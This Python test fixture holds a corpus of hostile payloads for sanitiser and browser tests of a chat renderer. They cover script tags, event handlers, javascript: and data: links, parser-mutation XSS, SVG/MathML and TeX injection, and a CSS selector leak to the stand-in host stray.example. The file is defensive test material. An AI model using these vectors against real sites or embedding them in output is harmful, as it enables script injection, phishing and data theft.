# ruff: noqa: E501 - a payload is one line
"""Hostile texts that an agent, a prompt, a name or an error may contain.

The renderer's tests and the browser tests share this corpus. A text that runs calls
``top.hit("<name>")``. A text that fetches does so from ``stray.example``, or from a
path that contains ``stray``. A test defines the function, records the requests, and
checks that there are no calls and no such requests.
"""

from __future__ import annotations

import base64
from urllib.parse import quote

HOST = "stray.example"


def _all(**entries: str) -> dict[str, str]:
    return {name: text.replace("HIT", f"top.hit('{name}')").replace("HOST", HOST) for name, text in entries.items()}


def _data(name: str, kind: str = "text/html") -> str:
    body = f"<script>top.hit('{name}')</script>"
    return f"data:{kind};base64,{base64.b64encode(body.encode()).decode()}"


SCRIPTS = _all(
    script="<script>HIT</script>",
    script_block="\n\n<script>\nHIT\n</script>\n\n",
    script_src="<script src=//HOST/a.js></script><script src='http://HOST/b.js' defer></script>",
    script_split="<scr<script>ipt>HIT</scr</script>ipt> <<b>script>HIT<</b>/script>",
    script_null="<script\x00>HIT</script> <scr\x00ipt>HIT</script>",
    script_module="<script type=module>import 'http://HOST/m.js'; HIT</script>",
    import_map="<link rel=modulepreload href=http://HOST/m.js><link rel=preload as=script href=http://HOST/p.js>",
    comment="<!--><script>HIT</script--> <!-- --!><script>HIT</script> <![CDATA[<script>HIT</script>]]> <?x <script>HIT</script> ?>",
    conditional="<!--[if gte IE 4]><script>HIT</script><![endif]-->",
)

HANDLERS = _all(
    onerror="<img src=x onerror=HIT> <img src=x onerror=\"HIT\"> <IMG SRC=x OnErRoR='HIT'>",
    onerror_slash="<img/src=x/onerror=HIT> <img src=x\tonerror\n=HIT> <img src=x onerror&#61;HIT>",
    onload="<body onload=HIT><svg onload=HIT></svg><iframe onload=HIT></iframe><style onload=HIT></style>",
    onfocus="<input autofocus onfocus=HIT><b tabindex=0 id=x onfocus=HIT>b</b><select autofocus onfocus=HIT></select>",
    ontoggle="<details open ontoggle=HIT>d</details><dialog open oncancel=HIT>d</dialog>",
    onanimation="<style>@keyframes x{}</style><b style='animation-name:x' onanimationstart=HIT>b</b>",
    media="<video><source onerror=HIT></video><audio src=x onerror=HIT></audio><video poster=http://HOST/p.png src=http://HOST/v.mp4>",
    onclick="<b onclick=HIT onmouseover=HIT onpointerenter=HIT>press</b><marquee onstart=HIT>m</marquee>",
    closing="\"><img src=x onerror=HIT> '><img src=x onerror=HIT> --><img src=x onerror=HIT> </textarea></title><img src=x onerror=HIT>",
    ours='<div class="ab-send jp-Dialog ab-retry" onclick=HIT id=login>x</div><button class="ab-act ab-copy" onclick=HIT>Copy</button>',
    popover="<button popovertarget=x>p</button><div popover id=x onbeforetoggle=HIT>d</div>",
)

LINKS = _all(
    javascript="[a](javascript:HIT) [a](JaVaScRiPt:HIT) [a](<javascript:HIT>) <javascript:HIT>",
    javascript_entities="[a](&#106;avascript:HIT) [a](javascript&colon;HIT) [a](java&Tab;script:HIT) [a](&#x6A&#x61vascript:HIT)",
    javascript_blanks="[a](java\tscript:HIT) [a](<java\nscript:HIT>) [a](\x01javascript:HIT) [a]( javascript:HIT) [a](java\u200bscript:HIT)",
    javascript_percent="[a](%6Aavascript:HIT) [a](javascript%3AHIT) [a](javascript:%48IT) [a](//%0djavascript:HIT)",
    javascript_host="[a](javascript://HOST/%0aHIT) [a](javascript:/*HOST*/HIT)",
    vbscript="[a](vbscript:HIT) [a](livescript:HIT) [a](mocha:HIT) [a](jar:http://HOST/!/) [a](view-source:http://HOST)",
    data=f"[a]({_data('data')}) [a](data:text/html,<script>HIT</script>) [a](DATA:text/html;charset=utf-8,{quote('<script>HIT</script>')})",
    data_svg=f"![a]({_data('data_svg', 'image/svg+xml')}) ![a](data:image/svg+xml,<svg onload=HIT>) ![a](javascript:HIT)",
    blob="[a](blob:http://HOST/1) [a](filesystem:http://HOST/1) [a](file:///etc/passwd) [a](about:blank#HIT)",
    relative="[a](//HOST/x) [a](/lab?reset) [a](../api/shutdown-stray) [a](#HIT) [a](\\\\HOST\\x) [a](/\\HOST/x)",
    attributes="[a](http://HOST/\"onmouseover=\"HIT) [a](http://HOST 't\" onclick=\"HIT') [a](<http://HOST/' onclick='HIT>)",
    references='[a]: javascript:HIT\n[b]: <data:text/html,x> \'HIT\'\n[c]: http://HOST "x\\" onclick=HIT"\n\n[a] [b] [c] ![c]',
    nested_links="[![a](http://HOST/n.png)](javascript:HIT) [[a](javascript:HIT)](http://HOST) [a](<b onclick=HIT>)",
    html_links="<a href=javascript:HIT>a</a> <a href='http://HOST' ping=http://HOST/ping target=_self download>a</a> <area href=javascript:HIT>",
    autolinks='<http://HOST/a> <http://HOST/"onclick=HIT> http://HOST/b www.HOST <mailto:a@HOST?subject="onclick=HIT"> <x@HOST>',
    userinfo="[bank](https://bank.example@HOST/) [a](http:HOST) [a](https:/HOST/x) [a](hTTp://HOST)",
)

PICTURES = _all(
    image='![a](http://HOST/1.png) ![a](HTTP://HOST/2.png "t") ![a](<http://HOST/3.png>)',
    image_alt='![" onerror=HIT x="](http://HOST/4.png) ![<img src=x onerror=HIT>](http://HOST/5.png) ![![a](http://HOST/6.png)](http://HOST/7.png)',
    image_title='![a](http://HOST/8.png \'a" onload="HIT\') ![a](http://HOST/9.png "\\"><script>HIT</script>")',
    image_relative="![a](/stray-1.png) ![a](stray-2.png) ![a](//HOST/10.png) ![a](\\\\HOST\\11.png)",
    image_html="<img src=http://HOST/12.png><img srcset='http://HOST/13.png 1x'><picture><source srcset=http://HOST/14.png><img></picture>",
    image_input="<input type=image src=http://HOST/15.png><table background=http://HOST/16.png><td background=http://HOST/17.png>",
)

EMBEDDED = _all(
    svg="<svg><script>HIT</script><animate onbegin=HIT attributeName=x dur=1s><set onbegin=HIT></svg>",
    svg_use="<svg><use href='data:image/svg+xml,<svg id=x onload=HIT></svg>#x'/><image href=http://HOST/s.png onerror=HIT></svg>",
    svg_link="<svg><a xlink:href=javascript:HIT><text y=20>press</text></a></svg>",
    svg_animate="<svg><a><animate attributeName=href values=javascript:HIT /><text y=20>press</text></a></svg>",
    svg_foreign="<svg><foreignObject><iframe srcdoc='<script>HIT</script>'></iframe></foreignObject></svg>",
    iframe="<iframe srcdoc='<script>HIT</script>'></iframe><iframe src=javascript:HIT></iframe><iframe src=http://HOST/f></iframe>",
    iframe_entities="<iframe srcdoc=&lt;script&gt;HIT&lt;/script&gt;></iframe><iframe src=&#106avascript:HIT></iframe>",
    objects=f"<object data='{_data('objects')}'></object><embed src=javascript:HIT><applet code=x></applet><object data=http://HOST/o></object>",
    portal="<portal src=http://HOST/p></portal><fencedframe src=http://HOST/q></fencedframe><frameset onload=HIT><frame src=javascript:HIT>",
    mathml="<math href=javascript:HIT>m</math><math><mi xlink:href=javascript:HIT>x</mi><maction actiontype=statusline#http://HOST>x</maction></math>",
    mathml_annotation="<math><annotation-xml encoding=text/html><img src=x onerror=HIT></annotation-xml></math>",
)

STYLES = _all(
    style="<style>@import url(http://HOST/a.css); body{background:url(http://HOST/b.png)} *{display:none!important}</style>",
    style_attribute="<p style='background:url(http://HOST/c.png);position:fixed;inset:0'>over</p><b style=behavior:url(http://HOST/d)>b</b>",
    style_closing="</style></div></div><style>@import 'http://HOST/e.css';</style><b onclick=HIT>bold</b>",
    style_expression="<b style='width:expression(HIT)'>b</b><style>@font-face{font-family:x;src:url(http://HOST/f.woff)}</style>",
    link="<link rel=stylesheet href=http://HOST/g.css><link rel=prefetch href=http://HOST/h><link rel=dns-prefetch href=//HOST>",
    leak="<style>textarea[value^=a]{background:url(http://HOST/leak?a)}</style>",
)

FORMS = _all(
    form="<form action=http://HOST/form><input name=q><button>Sign in</button></form><form action=javascript:HIT><input type=submit></form>",
    formaction="<button formaction=javascript:HIT>press</button><input type=submit formaction=http://HOST/fa form=x value=press>",
    isindex="<isindex type=image src=http://HOST/i.png onerror=HIT><keygen autofocus onfocus=HIT><textarea autofocus onfocus=HIT></textarea>",
    meta="<meta http-equiv=refresh content='0;url=http://HOST/m'><meta http-equiv=refresh content='0;url=javascript:HIT'>",
    meta_policy='<meta http-equiv=Content-Security-Policy content="img-src *; report-uri http://HOST/csp">',
    base="<base href=http://HOST/><base target=_top>",
)

# Texts that a second HTML parser reads differently, after a first parser has serialised
# them.
MUTATIONS = _all(
    noscript="<noscript><p title='</noscript><img src=x onerror=HIT>'></noscript>",
    template="<template><img src=x onerror=HIT></template><template shadowrootmode=open><script>HIT</script></template>",
    mglyph="<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=HIT&gt;'>",
    mtext="<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=HIT>",
    svg_style="<svg><style><!--</style><img src=x onerror=HIT>--></style></svg>",
    svg_title="<svg></p><style><a id='</style><img src=x onerror=HIT>'>",
    annotation="<math><annotation-xml encoding='text/html'><style><img src='</style><img src=x onerror=HIT>'></style></annotation-xml></math>",
    xmp="<xmp><p title='</xmp><img src=x onerror=HIT>'></xmp><noembed><p title='</noembed><img src=x onerror=HIT>'>",
    select="<select><style></select><img src=x onerror=HIT></style></select><option><script>HIT</script>",
    plaintext="<listing>&lt;img src=x onerror=HIT&gt;</listing><title>&lt;/title&gt;&lt;img src=x onerror=HIT&gt;</title>",
    entities="&lt;img src=x onerror=HIT&gt; &amp;lt;script&amp;gt;HIT &#60;script&#62;HIT&#60;/script&#62; &#x3c;svg onload=HIT&#x3e;",
    backticks="<img src=`x` onerror=`HIT`> <img alt=``onerror=HIT src=x>",
    desc="<svg><desc><table><a id='</desc><img src=x onerror=HIT>'></table></desc></svg><svg><title><style><img src=x onerror=HIT>",
    p_closing="<math><p></p><style><!--</style><img src/onerror=HIT>--></style></math>",
)

MARKDOWN = _all(
    code_language='```html"><script>HIT</script>\nx\n```\n\n```<img src=x onerror=HIT>\ny\n```\n\n~~~ python onclick=HIT\nz\n~~~',
    code_body="```html\n</code></pre><script>HIT</script><img src=x onerror=HIT>\n```\n\n    </code></pre><img src=x onerror=HIT>",
    code_highlighted="```python\n'''</span></code><script>HIT</script>'''\nx = \"<img src=x onerror=HIT>\"\n```",
    code_inline="`<img src=x onerror=HIT>` ``</code><script>HIT</script>``",
    code_open="```js\nHIT\n<script>HIT</script>",
    table='| <img src=x onerror=HIT> | b" onclick="HIT |\n|:--|:-:|\n| "><script>HIT</script> | `<svg onload=HIT>` |',
    heading="# <img src=x onerror=HIT> {#id onclick=HIT}\n\n<h1 onclick=HIT>h</h1>\n===",
    lists="- <script>HIT</script>\n  1. <img src=x onerror=HIT>\n     > <svg onload=HIT>\n- [ ] <input autofocus onfocus=HIT>",
    nested="**<b onclick=HIT>*[x](javascript:HIT)*</b>** ~~<s onclick=HIT>~~ *a<img src=x onerror=HIT>*",
    backslash="\\<img src=x onerror=HIT> <img src=x \\onerror=HIT> \\[a](javascript:HIT) [a\\](javascript:HIT)",
    emphasis_html="*<*script>HIT*<*/script> _<img src=x_ onerror=HIT> **[**a](javascript:HIT)",
    front_matter="---\ntitle: <script>HIT</script>\n---\n\n:::note onclick=HIT\n<img src=x onerror=HIT>\n:::",
    footnote="[^1] [^<img src=x onerror=HIT>]\n\n[^1]: <script>HIT</script>",
    footnote_link="[^1](javascript:HIT) [^1]\n\n[^1]: javascript:HIT\n[^2]: [x](javascript:HIT)\n> [^3]: <svg onload=HIT>\n[^3]",
    mermaid='```mermaid\ngraph TD; A["<img src=x onerror=HIT>"]-->B\nclick A href "javascript:HIT"\n```\n\n~~~ Mermaid\nHIT\n~~~',
)

TEX = _all(
    tex_href=r"$\href{javascript:HIT}{x^2}$ $$\href{javascript:HIT}{x}$$ \(\href{http://HOST/t}{x_1}\) \[\href{javascript:HIT}{y^2}\]",
    tex_unicode=r"$\unicode[font-family:x;background:url(http://HOST/u)]{x3c}^2$ $\unicode{60}script\unicode{62}^2$",
    tex_require=r"$\require{html}\href{javascript:HIT}{x^2}$ $$\require{unicode}\class{ab-send}{x}$$",
    tex_html=r"$\class{jp-Dialog}{x}_1$ $\cssId{login}{x}_1$ $\style{background:url(http://HOST/v)}{x}_1$ $\data{x=1}{x}_1$",
    tex_macro=r"$\def\frac#1#2{\href{javascript:HIT}{#1}}\frac12$ $\let\hr\href \hr{javascript:HIT}{x}$ $\newcommand{\x}{\href{javascript:HIT}{x}}\x^2$",
    tex_csname=r"$\csname href\endcsname{javascript:HIT}{x^2}$ $\begingroup\catcode`\@=0 @href{javascript:HIT}{x}$",
    tex_color=r"$\color{red;background:url(http://HOST/w)}{x_1}$ $\colorbox{red;background:url(http://HOST/x)}{x_1}$",
    tex_fcolorbox=r"$x_1\fcolorbox{red;background:url(http://HOST/y)}{white}{z}$ $$\fcolorbox{red;position:fixed;inset:0}{blue}{x}$$",
    tex_bbox=r"$\bbox[red,border:2px solid;background:url(http://HOST/z)]{x_1}$ $\enclose{circle}[style='background:url(http://HOST/aa)']{x_1}$",
    tex_html_inside=r"$x_1<img src=x onerror=HIT>$ $$<script>HIT</script>^2$$ \(\text{<svg onload=HIT>}^2\)",
    tex_image=r"$\includegraphics{http://HOST/ab.png}^2$ $\htmlData{x=1}{x}_1$ $\mmlToken{mi}[href='javascript:HIT']{x}_1$",
    tex_text=r"$\text{$\href{javascript:HIT}{x}$}^2$ $\tooltip{x}{<img src=x onerror=HIT>}^2$ $\texttip{x}{HIT}_1$ $\verb|<script>HIT</script>|_1$",
    tex_array=r"$\begin{array}{c}\href{javascript:HIT}{x}\\\hline y_1\end{array}$ $\definecolor{z}{named}{url(http://HOST/ac)}\color{z}x_1$",
    tex_space=r"$\href {javascript:HIT}{x^2}$ $\hr\ef{javascript:HIT}{x^2}$ $\href%" + "\n" + r"{javascript:HIT}{x^2}$",
)

# Each redefines \\alpha for the page, or styles or refers to something outside itself.
# `tests/chat/html/mathjax_commands.json` lists where such commands come from.
TEX_ATTACKS = [
    *(rf"\{name}{{\alpha}}{{X}}" for name in ("newcommand", "renewcommand", "DeclareMathOperator")),
    *(rf"\{name}\alpha{{X}}" for name in ("newcommand", "renewcommand", "providecommand", "DeclareMathOperator*")),
    *(rf"\{name}\alpha{{X}}" for name in ("def", "gdef", "edef", "xdef", "global\\def", "long\\def")),
    *(rf"\{name}\alpha=X" for name in ("let", "futurelet", "global\\let", "chardef", "mathchardef")),
    *(rf"\{name}{{\alpha}}{{X}}{{Y}}" for name in ("DeclarePairedDelimiter", "DeclarePairedDelimiters")),
    *(rf"\{name}{{\alpha}}[1]{{X}}{{Y}}{{#1}}" for name in ("DeclarePairedDelimiterX", "DeclarePairedDelimitersX")),
    *(
        rf"\{name}{{\alpha}}[1]{{X}}{{X}}{{Y}}{{Y}}{{#1}}"
        for name in ("DeclarePairedDelimiterXPP", "DeclarePairedDelimitersXPP")
    ),
    r"\Newextarrow{\alpha}{5,10}{0x2192}",
    r"\newenvironment{align}{X}{Y}",
    r"\renewenvironment{matrix}{X}{Y}",
    r"\newcolumntype{c}{X}",
    r"\definecolor{red}{rgb}{0,1,0}",
    r"\newtagform{default}{X}{Y}",
    r"\renewtagform{default}{X}{Y}",
    r"\usetagform{default}",
    r"\mathtoolsset{showonlyrefs}",
    r"\refeq{a}",
    r"\eqref{a}",
    r"\ref{a}",
    r"x \label{\def\alpha{X}}",
    r"\require{physics}",
    r"\text{\def\alpha{X}}",
    r"\text{$\let\alpha X$}",
    r"\ce{$\def\alpha{X}$}",
    r"\begin{array}{c}\gdef\alpha{X}\end{array}",
    r"\begingroup\global\def\alpha{X}\endgroup",
    r"\csname def\endcsname\alpha{X}",
    r"\catcode64=0 @def@alpha{X}",
    r"\class{jp-Dialog}{x} \cssId{login}{x} \style{position:fixed}{x} \href{javascript:top.hit('tex')}{x}",
    r"\unicode[serif;background:url(http://stray.example)]{x41}",
    r"\matrix\\let\alpha X",
    r"\cases \\newcommand\alpha X",
]
TEX["tex_definitions"] = "\n\n".join(
    f"${tex}$ and \\({tex}\\)\n\n$$\n{tex}\n$$\n\n\\[\n{tex}\n\\]" for tex in TEX_ATTACKS
)

CHARACTERS = _all(
    bidi="invoice\u202efdp.exe \u2066a\u2069 \u2067<b>\u2069 \u061c\u200e\u200f [\u202ea](http://HOST/\u202emoc)",
    zero_width="java\u200bscript: <scr\u200dipt>HIT</scr\u200dipt> \ufeff\u2060\u180e <\u200bimg src=x onerror=HIT>",
    controls="\x00\x01\x07\x08\x0b\x0c\x1b[31mred\x1b]8;;http://HOST\x07\x7f\x85\x9b <\x0cimg src=x\x0conerror=HIT>",
    tags="\U000e0041\U000e0042 \U0001f3f4\U000e0067\U000e0062\U000e007f \ufff9a\ufffab\ufffb",
    lookalikes="＜script＞HIT＜/script＞ ‹img src=x onerror=HIT› ﹤svg onload=HIT﹥ \u02c2script\u02c3",
    newlines="a\rb\r\nc\u2028<script>HIT</script>\u2029<img src=x onerror=HIT>\x85d",
)

CORPUS: dict[str, str] = {
    name: text
    for group in (SCRIPTS, HANDLERS, LINKS, PICTURES, EMBEDDED, STYLES, FORMS, MUTATIONS, MARKDOWN, TEX, CHARACTERS)
    for name, text in group.items()
}
# Not in the corpus: one line of a megabyte, with an attack in its middle.
LONG_LINE = "x" * 500_000 + "<img src=x onerror=top.hit('long_line')>" + "y" * 500_000
